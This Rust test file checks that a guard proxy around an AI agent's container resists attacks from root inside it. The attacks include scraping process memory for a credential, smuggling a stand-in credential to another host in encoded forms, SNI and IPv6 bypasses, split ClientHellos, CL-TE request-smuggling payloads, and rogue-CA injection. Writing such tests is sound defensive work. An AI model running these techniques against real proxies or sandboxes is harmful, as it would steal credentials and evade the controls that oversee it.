//! Attacks on the guard's HTTP proxy (issue 25) from root inside the agent container, against
//! real parts: the test HTTPS server of `support::https` (a CA of its own, given to yolo as
//! `extra_ca`), the fake internet's name server, `yolo up` and `yolo exec` with curl and python
//! in the agent. Each test starts one session and runs a group of attacks in it; each attack's
//! outcome is checked on the agent's side (what it got) and on the server's (what reached it).

use crate::support::https::*;
use crate::support::net::*;
use crate::support::*;
use std::time::{Duration, Instant};

/// Two inspected names of the test server, and one of a second server.
const API: &str = "api.allowed.test";
const MIRROR: &str = "mirror.allowed.test";
const ROGUE: &str = "rogue.allowed.test";

/// A session behind the guard with the test server for [`API`] and [`MIRROR`], its CA as
/// `extra_ca`; `user_extra` is more of the user config (credentials, rules).
struct Fixture {
    t: Test,
    /// `yolo up`/`run` flags: the fake internet's name server, `*.allowed.test` allowed.
    flags: Vec<String>,
    server: HttpsServer,
    /// Holds the CA file the user config names.
    _dir: tempfile::TempDir,
}

impl Fixture {
    /// `up` the session unless `up` is false (the test then uses `yolo run`).
    fn start(
        t: Test,
        user_extra: &str,
        up: bool,
        also: impl FnOnce(&Test, &Internet) -> String,
    ) -> Self {
        let net = Internet::new(&t);
        let ca = TestCa::new("yolo http attacks test server CA");
        let dir = tempfile::tempdir().unwrap();
        let ca_file = ca.write(dir.path(), "ca.pem");
        let server = HttpsServer::start(&t, &net, "https", &ca, &[API, MIRROR]);
        net.set_answer(API, &server.ip);
        net.set_answer(MIRROR, &server.ip);
        let more = also(&t, &net);
        t.devcontainer(&format!(r#"{{"image": "{AGENT_IMAGE}"}}"#));
        t.user_config(&net.user_config(&format!(
            "extra_ca = [\"{}\"]\n{user_extra}\n{more}",
            ca_file.display()
        )));
        if up {
            let flags = net.up_flags(&["*.allowed.test"]);
            let refs: Vec<&str> = flags.iter().map(String::as_str).collect();
            t.up(&refs);
        }
        Fixture {
            t,
            flags: net.up_flags(&["*.allowed.test"]),
            server,
            _dir: dir,
        }
    }

    /// `yolo exec sh -c SCRIPT`, as root in the agent container; its output, which must end
    /// with `done`.
    fn agent(&self, script: &str) -> String {
        let run = self.t.yolo(&["exec", "sh", "-c", script]);
        let out = run.stdout();
        assert!(
            out.lines().any(|l| l == "done"),
            "the agent's script did not finish: {}",
            run.describe()
        );
        out
    }

    /// The same as the agent's own command, `yolo run probe` (the agent gets its
    /// credentials' stand-ins in its environment; `yolo exec` commands do not).
    fn run_agent(&self) -> String {
        let mut args = vec!["run", "probe"];
        args.extend(self.flags.iter().map(String::as_str));
        let run = self.t.yolo(&args);
        let out = run.stdout();
        assert!(
            out.lines().any(|l| l == "done"),
            "the agent did not finish: {}",
            run.describe()
        );
        out
    }

    /// The paths the server received.
    fn paths(&self) -> Vec<String> {
        self.server
            .received()
            .iter()
            .map(|r| r["path"].as_str().unwrap_or_default().to_string())
            .collect()
    }
}

/// Wait (bounded) until at least `n` events match `pred`; those that do.
fn events_matching(
    t: &Test,
    n: usize,
    pred: impl Fn(&serde_json::Value) -> bool,
) -> Vec<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let found: Vec<_> = t.events().into_iter().filter(|e| pred(e)).collect();
        if found.len() >= n || Instant::now() >= deadline {
            return found;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The agent's side of the secrets test: a python process that made a request with the
/// stand-in and is still alive, whose memory (and that of every other process it may read)
/// its parent then searches for the real value, read from the pattern file. The parent skips
/// its own memory only, which holds the pattern. It reads `/proc/PID/mem` over the readable
/// ranges of `/proc/PID/maps` in pieces that overlap by the pattern's length.
const MEMORY_SEARCH: &str = r#"
import os, subprocess, sys
CLIENT = r'''
import os, socket, ssl, sys, time
host = os.environ["API"]
key = os.environ["EXAMPLE_KEY"]
raw = socket.create_connection((host, 443), timeout=10)
tls = ssl.create_default_context().wrap_socket(raw, server_hostname=host)
tls.sendall(("GET /from-python HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nConnection: close\r\n\r\n" % (host, key)).encode())
answer = b""
while True:
    got = tls.recv(65536)
    if not got:
        break
    answer += got
print(answer.split(b"\r\n")[0].decode(), flush=True)
time.sleep(300)
'''
real = open("/dev/shm/pattern", "rb").read().strip()
stand_in = os.environ["EXAMPLE_KEY"].encode()
child = subprocess.Popen([sys.executable, "-c", CLIENT], stdout=subprocess.PIPE)
print("python-status=" + child.stdout.readline().decode().strip())
print("python-pid=%d" % child.pid)
me = os.getpid()
found = {"real": [], "stand-in": []}
searched, total, unreadable = 0, 0, []
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me:
        continue
    try:
        maps = open("/proc/%d/maps" % pid).read().splitlines()
        mem = open("/proc/%d/mem" % pid, "rb", 0)
    except OSError as e:
        try:
            name = open("/proc/%d/comm" % pid).read().strip()
        except OSError:
            name = "?"
        unreadable.append("%d:%s:%s" % (pid, name, e.strerror))
        continue
    searched += 1
    hits = set()
    for line in maps:
        fields = line.split()
        if not fields[1].startswith("r") or fields[-1] in ("[vvar]", "[vsyscall]"):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        tail = b""
        while start < end:
            size = min(1 << 20, end - start)
            try:
                mem.seek(start)
                piece = tail + mem.read(size)
            except (OSError, ValueError, OverflowError):
                break
            total += size
            for name, needle in (("real", real), ("stand-in", stand_in)):
                if needle in piece:
                    hits.add(name)
            tail = piece[-len(real):]
            start += size
    for name in hits:
        found[name].append(str(pid))
child.kill()
print("mem-real=" + " ".join(found["real"]))
print("mem-stand-in=" + " ".join(found["stand-in"]))
print("mem-searched=%d" % searched)
print("mem-bytes=%d" % total)
print("mem-unreadable=" + " ".join(unreadable))
"#;

/// ATTACK: root in the agent container looks for the real value of a credential everywhere it
/// can read, after a live process used the stand-in: every file, the environment and command
/// line of every process, and the memory of every process (`/proc/PID/mem`, including the one
/// that made the request); it is nowhere. Then it hides the stand-in in the request to another
/// inspected host in ways a plain header check would miss (the query string, percent-encoded
/// once and twice in the path, a Basic pair as user and as password, another header, a
/// cookie): each is refused (403), recorded as `credential_misuse`, and never reaches the host.
#[test]
fn the_real_key_is_nowhere_in_the_container_and_a_hidden_stand_in_is_refused_elsewhere() {
    let mut t = Test::new();
    let real = format!("realkey-{}-0123456789abcdef", t.id);
    t.env("YOLO_TEST_REAL_KEY", &real);
    // The real value is never in the script (the exec audit records command lines): its
    // halves are joined into a pattern file under /dev, which the file search skips.
    let (first, second) = real.split_at(real.len() / 2);
    let script = format!(
        r#"export API={API}
code() {{ curl -sS -o /dev/null -w '%{{http_code}}' --max-time 10 "$@"; }}
K="$EXAMPLE_KEY"
echo "agent-var=$K"
enc=$(printf '%s' "$K" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
twice=$(printf '%s' "$enc" | sed 's/%/%25/g')
echo "query=$(code "https://{MIRROR}/query?key=$K")"
echo "encoded=$(code "https://{MIRROR}/encoded/$enc")"
echo "encoded-twice=$(code "https://{MIRROR}/encoded-twice?k=$twice")"
echo "basic-user=$(code -u "$K:x" https://{MIRROR}/basic-user)"
echo "basic-password=$(code -u "agent:$K" https://{MIRROR}/basic-password)"
echo "other-header=$(code -H "authorization: Bearer $K" https://{MIRROR}/other-header)"
echo "cookie=$(code -b "session=$K" https://{MIRROR}/cookie)"
printf '%s' '{first}' > /dev/shm/pattern; printf '%s\n' '{second}' >> /dev/shm/pattern
echo "files=$(grep -rlsF -f /dev/shm/pattern / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev | tr '\n' ' ')"
echo "environ=$(for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" 2>/dev/null | grep -qF -f /dev/shm/pattern && echo "$f"; done | tr '\n' ' ')"
cat > /tmp/search.py <<'PY'
{MEMORY_SEARCH}
PY
python3 /tmp/search.py 2>&1
rm -f /dev/shm/pattern
echo done
"#
    );
    let f = Fixture::start(
        t,
        &format!(
            r#"[credentials.example]
hosts = ["{API}"]
header = "x-api-key"
from_env = "YOLO_TEST_REAL_KEY"
agent_env = "EXAMPLE_KEY"
[http."{MIRROR}"]
allow = ["GET /**"]
[agents.probe]
command = ["sh", "-c", {script}]
"#,
            script = serde_json::to_string(&script).unwrap(),
        ),
        false,
        |_, _| String::new(),
    );
    let out = f.run_agent();
    let stand_in = field(&out, "agent-var");
    assert!(stand_in.len() >= 16 && stand_in != real, "{out}");

    // The stand-in, however hidden, goes nowhere else.
    let hidden = [
        "query",
        "encoded",
        "encoded-twice",
        "basic-user",
        "basic-password",
        "other-header",
        "cookie",
    ];
    let let_through: Vec<&str> = hidden
        .iter()
        .copied()
        .filter(|name| field(&out, name) != "403")
        .collect();
    assert!(
        let_through.is_empty(),
        "the stand-in went to {MIRROR} hidden as {let_through:?}:\n{out}"
    );
    let paths = f.paths();
    let reached: Vec<&String> = paths
        .iter()
        .filter(|p| hidden.iter().any(|h| p.starts_with(&format!("/{h}"))))
        .collect();
    assert!(
        reached.is_empty(),
        "refused requests reached the host: {reached:?}"
    );
    let misuse = events_matching(&f.t, hidden.len(), |e| {
        e["kind"] == "credential_misuse" && e.to_string().contains(MIRROR)
    });
    assert_eq!(misuse.len(), hidden.len(), "{misuse:?}");
    for event in &misuse {
        let text = event.to_string();
        assert!(!text.contains(&real), "{text}");
    }

    // The process that used the stand-in got the host's answer, and its memory was read: the
    // stand-in is there (the search works), the real value is not, in it or any other.
    assert_eq!(field(&out, "python-status"), "HTTP/1.1 200 OK", "{out}");
    let python = field(&out, "python-pid");
    let holding_stand_in: Vec<&str> = field(&out, "mem-stand-in").split(' ').collect();
    assert!(
        holding_stand_in.contains(&python),
        "the memory search did not find the stand-in in the process that sent it:\n{out}"
    );
    // The processes the agent may not read (the guard's, whose memory holds the real value,
    // when the agent container shares its PID namespace) are listed in `mem-unreadable`.
    let searched: u32 = field(&out, "mem-searched").parse().unwrap();
    assert!(searched >= 2, "{out}");
    assert_eq!(
        field(&out, "mem-real"),
        "",
        "processes holding the real value:\n{out}"
    );
    assert_eq!(field(&out, "files"), "", "files holding the real value");
    assert_eq!(field(&out, "environ"), "", "environments holding it");
    let own = f
        .server
        .received()
        .into_iter()
        .find(|r| r["path"] == "/from-python")
        .expect("the python request reached the host");
    assert_eq!(own["key"], real.as_str(), "the host got the real value");
}

/// The agent's raw-socket attacks of the bypass test. `Tls` drives TLS through memory buffers,
/// so the ClientHello can be cut into 7-byte TCP segments; each attack prints `name=` the
/// status codes of the responses it got, or `error:` and why the connection failed.
const BYPASS: &str = r#"
import faulthandler, os, socket, ssl, time
# A hung attack fails the test with a traceback instead of holding it.
faulthandler.dump_traceback_later(90, exit=True)
API, MIRROR, IP = os.environ["API"], os.environ["MIRROR"], os.environ["IP"]

class Tls:
    def __init__(self, addr, port, sni, chunk=0):
        self.raw = socket.create_connection((addr, port), timeout=5)
        self.raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.inc, self.out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = ssl.create_default_context().wrap_bio(self.inc, self.out, server_hostname=sni)
        first = True
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                pass
            data = self.out.read()
            step = chunk if (first and chunk) else max(len(data), 1)
            for i in range(0, len(data), step):
                self.raw.sendall(data[i:i + step])
                if first and chunk:
                    time.sleep(0.005)
            first = False
            got = self.raw.recv(65536)
            if not got:
                raise ConnectionError("closed during the handshake")
            self.inc.write(got)
        self.raw.sendall(self.out.read())

    def send(self, data):
        self.tls.write(data)
        self.raw.sendall(self.out.read())

    def statuses(self):
        data = b""
        done = False
        while not done:
            try:
                got = self.raw.recv(65536)
            except socket.timeout:
                break
            if not got:
                break
            self.inc.write(got)
            while True:
                try:
                    piece = self.tls.read(65536)
                except ssl.SSLWantReadError:
                    break
                except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                    piece = b""
                if not piece:
                    done = True
                    break
                data += piece
        self.data = data.decode("latin1")
        lines = self.data.split("\r\n")
        return ",".join(l.split(" ")[1] for l in lines if l.startswith("HTTP/1.1 "))

def attempt(name, act):
    try:
        result = act()
    except Exception as e:
        result = "error:%s:%s" % (type(e).__name__, str(e).replace("\n", " "))
    print("%s=%s" % (name, result), flush=True)

def ask(addr, sni, payload, chunk=0, port=443):
    conn = Tls(addr, port, sni, chunk)
    conn.send(payload)
    return conn.statuses()

def ask_why(addr, sni, payload):
    conn = Tls(addr, 443, sni)
    conn.send(payload)
    codes = conn.statuses()
    return codes + "|" + conn.data.rstrip("\n").split("\n")[-1]

def req(method, path, host, extra=""):
    return ("%s %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (method, path, host, extra)).encode()

attempt("split-hello", lambda: ask(MIRROR, MIRROR, req("GET", "/split-hello", MIRROR), chunk=7))
attempt("split-hello-delete", lambda: ask(MIRROR, MIRROR, req("DELETE", "/split-hello-delete", MIRROR), chunk=7))
attempt("split-hello-other-sni", lambda: ask(IP, "evil.denied.test", req("GET", "/split-other", "evil.denied.test"), chunk=7))
mapped = "::ffff:" + IP
attempt("v6-mapped", lambda: ask(mapped, API, req("GET", "/v6-mapped", API)))
attempt("v6-mapped-delete", lambda: ask(mapped, API, req("DELETE", "/v6-mapped-delete", API)))
attempt("v6-mapped-8443", lambda: ask(mapped, API, req("GET", "/v6-mapped-8443", API), port=8443))

smuggled = req("DELETE", "/smuggled", API).decode()
chunked = "%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled)
head = "POST /upload HTTP/1.1\r\nHost: %s\r\n" % API
smuggling = {
    "cl-te": head + "Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s" % (5 + len(smuggled), smuggled),
    "te-cl": head + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n" + chunked,
    "cl-cl": head + "Content-Length: 0\r\nContent-Length: %d\r\n\r\n%s" % (len(smuggled), smuggled),
    "te-space": head + "Transfer-Encoding : chunked\r\nContent-Length: %d\r\n\r\n%s" % (len(chunked), chunked),
    "te-list": head + "Transfer-Encoding: identity, chunked\r\nContent-Length: 5\r\n\r\n" + chunked,
}
for name, payload in smuggling.items():
    attempt("smuggle-" + name, lambda p=payload: ask(API, API, p.encode()))

attempt("connect", lambda: ask_why(API, API, ("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (API, API)).encode()))
attempt("connect-elsewhere", lambda: ask(API, API, b"CONNECT evil.denied.test:443 HTTP/1.1\r\nHost: evil.denied.test:443\r\n\r\n"))
"#;

/// ATTACK: root in the agent container tries to reach an inspected host's address without the
/// proxy judging what it sends: the IP literal (no SNI), another name's SNI at that address,
/// another port, IPv6 (the name has no IPv6 address and the namespace no IPv6; an IPv6 socket
/// to the IPv4-mapped address is IPv4 and goes through the proxy), a Host header or HTTP/2
/// `:authority` naming another host than the SNI, request smuggling with conflicting
/// Content-Length/Transfer-Encoding, CONNECT (through TLS and on port 80), and a ClientHello
/// cut into 7-byte TCP segments. Each is refused, or judged by the host's rules; the server's
/// record holds only requests the rules allow.
#[test]
fn an_inspected_hosts_address_is_reached_only_through_the_proxys_judgement() {
    let f = Fixture::start(
        Test::new(),
        &format!(
            r#"[http."{API}"]
allow = ["GET /**", "POST /upload"]
[http."{MIRROR}"]
allow = ["GET /**"]
"#
        ),
        true,
        |_, _| String::new(),
    );
    let ip = &f.server.ip;
    let script = format!(
        r#"export API={API} MIRROR={MIRROR} IP={ip}
r() {{ code=$(curl -sS -o /dev/null -w '%{{http_code}}' --connect-timeout 5 --max-time 10 "$@" 2>/dev/null); echo "$code/$?"; }}
echo "resolve=$(r https://$API/resolve)"
echo "ip-literal=$(r -k https://$IP/ip-literal)"
echo "ip-literal-host=$(r -k -H "Host: $API" https://$IP/ip-literal-host)"
echo "other-sni=$(r -k --resolve evil.denied.test:443:$IP https://evil.denied.test/other-sni)"
echo "other-sni-allowed=$(r -k --resolve x.allowed.test:443:$IP https://x.allowed.test/other-sni-allowed)"
echo "port-8443=$(r -k --resolve $API:8443:$IP https://$API:8443/port-8443)"
echo "ipv6=$(r -6 https://$API/ipv6)"
echo "sni-host=$(r -H "Host: $MIRROR" https://$API/sni-host)"
echo "h2-own=$(curl -sS -o /dev/null -w '%{{http_version}}/%{{http_code}}' --max-time 10 --http2 https://$API/h2-own)"
echo "h2-authority=$(curl -sS -o /dev/null -w '%{{http_version}}/%{{http_code}}' --max-time 10 --http2 -H "Host: $MIRROR" https://$API/h2-authority)"
echo "connect-plain=$(r -p -x http://$API:80 https://$MIRROR/connect-plain)"
cat > /tmp/bypass.py <<'PY'
{BYPASS}
PY
python3 /tmp/bypass.py 2>&1
echo done
"#
    );
    let out = f.agent(&script);
    let mut broken = Vec::new();
    let mut expect = |name: &str, ok: &dyn Fn(&str) -> bool, what: &str| {
        let got = field(&out, name).to_string();
        if !ok(&got) {
            broken.push(format!("{name}: expected {what}, got {got}"));
        }
    };
    let refused_connection = |v: &str| v.starts_with("000/") || v.starts_with("error:");
    expect("resolve", &|v| v == "200/0", "200 (the allowed GET)");
    for name in [
        "ip-literal",
        "ip-literal-host",
        "other-sni",
        "other-sni-allowed",
    ] {
        expect(name, &refused_connection, "a connection refused in TLS");
    }
    expect(
        "port-8443",
        &|v| v.starts_with("000/7"),
        "a refused connection (curl 7)",
    );
    expect("ipv6", &|v| !v.ends_with("/0"), "no IPv6 connection");
    expect("sni-host", &|v| v == "421/0", "421");
    expect("h2-own", &|v| v == "2/200", "HTTP/2 200");
    expect("h2-authority", &|v| v == "2/421", "HTTP/2 421");
    expect(
        "connect-plain",
        &|v| !v.ends_with("/0"),
        "a refused CONNECT",
    );
    expect("split-hello", &|v| v == "200", "200 (judged and allowed)");
    expect(
        "split-hello-delete",
        &|v| v == "403",
        "403 (judged and refused)",
    );
    expect(
        "split-hello-other-sni",
        &|v| v.starts_with("error:"),
        "a refused handshake",
    );
    expect("v6-mapped", &|v| v == "200", "200 (through the proxy)");
    expect(
        "v6-mapped-delete",
        &|v| v == "403",
        "403 (judged and refused)",
    );
    expect(
        "v6-mapped-8443",
        &|v| v.starts_with("error:"),
        "a refused connection",
    );
    for name in ["cl-te", "te-cl", "cl-cl", "te-space", "te-list"] {
        // Refused whole (400), or the smuggled DELETE parsed as a request and refused (403).
        expect(
            &format!("smuggle-{name}"),
            &|v| !v.is_empty() && !v.starts_with("error"),
            "an HTTP answer (the server's record below says what went through)",
        );
    }
    // Refused as a CONNECT (the host's rules would refuse it too, but a host without rules
    // would not).
    expect(
        "connect",
        &|v| v.starts_with("403|yolo: CONNECT is refused"),
        "403 from the CONNECT refusal",
    );
    expect("connect-elsewhere", &|v| v.starts_with('4'), "a 4xx");

    // What reached the server: only requests the rules allow, on 443.
    let allowed = [
        "/resolve",
        "/h2-own",
        "/split-hello",
        "/v6-mapped",
        "/upload",
    ];
    for request in f.server.received() {
        let path = request["path"].as_str().unwrap_or_default();
        if !allowed.contains(&path) || request["port"] != 443 || request["method"] == "DELETE" {
            broken.push(format!("the server received {request}"));
        }
    }
    for path in ["/resolve", "/split-hello", "/v6-mapped"] {
        if !f.paths().iter().any(|p| p == path) {
            broken.push(format!("the allowed {path} never reached the server"));
        }
    }
    // The split ClientHello and the IPv6 socket went through the proxy: it recorded them.
    for path in ["/split-hello", "/v6-mapped"] {
        let seen = events_matching(&f.t, 1, |e| e["kind"] == "http" && e["path"] == path);
        if seen.is_empty() {
            broken.push(format!("no http event for {path}"));
        }
    }
    let refused = events_matching(&f.t, 1, |e| {
        e.to_string().contains("proxy_refused") && e.to_string().contains("evil.denied.test")
    });
    if refused.is_empty() {
        broken.push("no proxy_refused event for the SNI evil.denied.test".into());
    }
    assert!(broken.is_empty(), "{broken:#?}\nthe agent's output:\n{out}");
}

/// ATTACK: root in the agent container trusts a CA of its own. It adds it to the container's
/// trust store (`update-ca-certificates`) and to a bundle of its own, and tries to write it
/// into the session CA / extra CA folder bound into the container (read-only: every write
/// fails, the host's files are unchanged). A second HTTPS server, for an inspected allowed
/// name, has a certificate of that CA: the guard, which verifies hosts against the host's roots
/// and the user's `extra_ca` only, refuses it (502) and forwards nothing; the real server,
/// whose CA the user gave, still answers.
#[test]
fn a_ca_the_agent_trusts_changes_nothing_for_the_guard() {
    let agent_ca = TestCa::new("the agent's own CA");
    let mut rogue = None;
    let f = Fixture::start(
        Test::new(),
        &format!("[http.\"{MIRROR}\"]\nallow = [\"GET /**\"]\n"),
        true,
        |t, net| {
            let server = HttpsServer::start(t, net, "rogue", &agent_ca, &[ROGUE]);
            net.set_answer(ROGUE, &server.ip);
            rogue = Some(server);
            format!("[http.\"{ROGUE}\"]\nallow = [\"GET /**\"]\n")
        },
    );
    let rogue = rogue.unwrap();
    let ca_files = || {
        let mut files: Vec<(std::path::PathBuf, String)> = files_below(f.t.root())
            .into_iter()
            .filter(|p| {
                p.components()
                    .any(|c| c.as_os_str() == "session-ca" || c.as_os_str() == "ca")
            })
            .filter_map(|p| Some((p.clone(), std::fs::read_to_string(&p).ok()?)))
            .collect();
        files.sort();
        files
    };
    let before = ca_files();
    let script = format!(
        r#"cat > /usr/local/share/ca-certificates/agent.crt <<'PEM'
{pem}PEM
update-ca-certificates >/dev/null 2>&1; echo "update=$?"
cat "${{SSL_CERT_FILE:-/etc/ssl/certs/ca-certificates.crt}}" /usr/local/share/ca-certificates/agent.crt > /tmp/bundle.pem
written=""
for target in /usr/local/share/yolo-ca/bundle.pem /usr/local/share/yolo-ca/extra-ca.crt /usr/local/share/yolo-ca/agent.crt; do
  cat /usr/local/share/ca-certificates/agent.crt >> "$target" 2>/dev/null && written="$written $target"
done
mount -o remount,rw /usr/local/share/yolo-ca 2>/dev/null && written="$written remount"
echo "written=$written"
echo "rogue=$(curl -sS -o /tmp/rogue.txt -w '%{{http_code}}' --cacert /tmp/bundle.pem --max-time 10 https://{ROGUE}/rogue)"
echo "rogue-body=$(tr '\n' ' ' < /tmp/rogue.txt)"
echo "mirror=$(curl -sS -o /dev/null -w '%{{http_code}}' --cacert /tmp/bundle.pem --max-time 10 https://{MIRROR}/mirror)"
echo done
"#,
        pem = agent_ca.pem,
    );
    let out = f.agent(&script);
    assert_eq!(field(&out, "update"), "0", "{out}");
    assert_eq!(
        field(&out, "written"),
        "",
        "the agent wrote to the CA folder"
    );
    assert_eq!(ca_files(), before, "the host's CA files changed");
    assert!(
        !before.is_empty(),
        "no CA folder found under {:?}",
        f.t.root()
    );
    assert_eq!(field(&out, "rogue"), "502", "{out}");
    assert!(
        field(&out, "rogue-body").contains("not trusted by the guard"),
        "{out}"
    );
    assert!(rogue.received().is_empty(), "{:?}", rogue.received());
    assert_eq!(field(&out, "mirror"), "200", "{out}");
    assert!(f.paths().contains(&"/mirror".to_string()));
}
